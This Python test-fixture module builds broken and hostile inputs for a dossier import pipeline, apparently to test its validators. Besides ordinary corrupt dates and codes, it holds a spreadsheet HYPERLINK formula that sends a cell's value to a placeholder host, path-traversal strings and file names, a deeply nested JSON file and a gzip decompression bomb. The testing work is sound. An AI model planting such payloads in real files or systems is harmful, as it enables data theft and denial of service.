"""Everyday and hostile faults: what they do to a row, a file or a name."""

from __future__ import annotations

import dataclasses
import gzip
from datetime import timedelta

from cchc.demo.dossier import Dossier

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"CANARY")'
PATH = "../../../../etc/CANARY"
STRAY_NAMES = ("dossiers.json.tmp", "=dossiers;x.csv", "..%2F..%2Fdossiers.json", "~$dossiers.xlsx", "README.txt")
BROKEN_BY_EXT = {
    "json": ("invalid_json", "deep_nesting", "zero_bytes", "html_error_page"),
    "jsonl": ("invalid_json", "zero_bytes", "html_error_page"),
    "jsonl.gz": ("truncated_gzip", "invalid_json"),
    "csv": ("wrong_encoding", "html_error_page", "zero_bytes", "missing_column"),
    "csv.gz": ("truncated_gzip", "zip_bomb"),
    "xlsx": ("truncated_xlsx", "missing_column"),
}

#: rule -> (canonical field, text in dvcqg2022, dvcqg2026, and the tables)
_TEXTS = {
    "no_key": ("dossier_code", "", "", ""),
    "bad_date": ("due_at", "20261301", "0000-00-00 00:00:00", "32/13/2026 25:61"),
    "unknown_status": ("status", "11", "99", "Trạng thái lạ"),
    "unknown_channel": ("channel", "9", "9", "Qua bạn bè"),
    "unknown_unit": ("handling_unit", "H50.999", "H50.999", "H50.999"),
    "unknown_procedure": ("procedure_code", "9.999999", "9.999999", "9.999999"),
    "negative_amount": ("fees", "-50000", "-50000", "-50.000"),
}
ROW_RULES = (*_TEXTS, "received_before_submitted", "finished_before_received", "due_before_received")


def spoil(d: Dossier, rule: str, dialect: str) -> Dossier | None:
    """A copy of the row that breaks one rule, or None where this row can't."""
    if rule in _TEXTS:
        name, *texts = _TEXTS[rule]
        text = texts[{"dvcqg2022": 0, "dvcqg2026": 1}.get(dialect, 2)]
        return dataclasses.replace(d, raw={**d.raw, name: text})
    if d.received_at is None:
        return None
    if rule == "received_before_submitted":
        # a little over a day: later still would also lie after the export
        return dataclasses.replace(d, submitted_at=d.received_at + timedelta(days=1, hours=1))
    if rule == "finished_before_received":
        return dataclasses.replace(d, finished_at=d.received_at - timedelta(hours=3))
    return dataclasses.replace(d, due_at=d.received_at - timedelta(days=1))


def untidy(d: Dossier, luck: float) -> Dossier:
    """Keys in lower case or between blanks, formula or path text in free fields: all of it acceptable."""
    if luck < 0.010:
        return dataclasses.replace(d, code=d.code.lower())
    if luck < 0.020:
        return dataclasses.replace(d, code=f" {d.code} ")
    if luck < 0.021:
        return dataclasses.replace(d, raw={**d.raw, "subject": FORMULA})
    return dataclasses.replace(d, raw={**d.raw, "address": PATH}) if luck < 0.022 else d


def untidy_kind(luck: float) -> str | None:
    """The name of what ``untidy`` does at that draw."""
    bounds = ((0.010, "lower_case_key"), (0.020, "padded_key"), (0.021, "formula_text"), (0.022, "path_text"))
    return next((kind for bound, kind in bounds if luck < bound), None)


def without_first_heading(content: bytes) -> bytes:
    """A small CSV file, gzipped or not, whose first heading is not what it was."""
    if content[:2] == b"\x1f\x8b":
        return gzip.compress(without_first_heading(gzip.decompress(content)), 6, mtime=0)
    return b"Cot_la," + content.split(b",", 1)[1]


def break_file(content: bytes, kind: str) -> bytes:
    """The delivered bytes of a file, broken beyond reading. ``missing_column`` is made by the writers."""
    if kind in ("truncated_gzip", "truncated_xlsx"):
        return content[: max(20, len(content) * 2 // 3)]
    if kind == "invalid_json":
        if content[:2] == b"\x1f\x8b":
            return gzip.compress(b'{"MaHoSo":"H50' + gzip.decompress(content)[:400], 6, mtime=0)
        return content[:-9] if len(content) > 40 else b'{"data": [,]}'
    if kind == "deep_nesting":
        return b'{"madonvi":"CANARY","service":"DongBoHoSoMC","data":' + b"[" * 40_000 + b"]" * 40_000 + b"}"
    if kind == "wrong_encoding":
        return content.decode("utf-8-sig").encode("cp1258", errors="replace") + "Đặng\n".encode("utf-16-le")
    if kind == "html_error_page":
        return b"<!DOCTYPE html><html><body><h1>502 Bad Gateway</h1></body></html>"
    if kind == "zip_bomb":
        return gzip.compress(gzip.decompress(content) + b" " * 16_000_000, 9, mtime=0)
    return b""
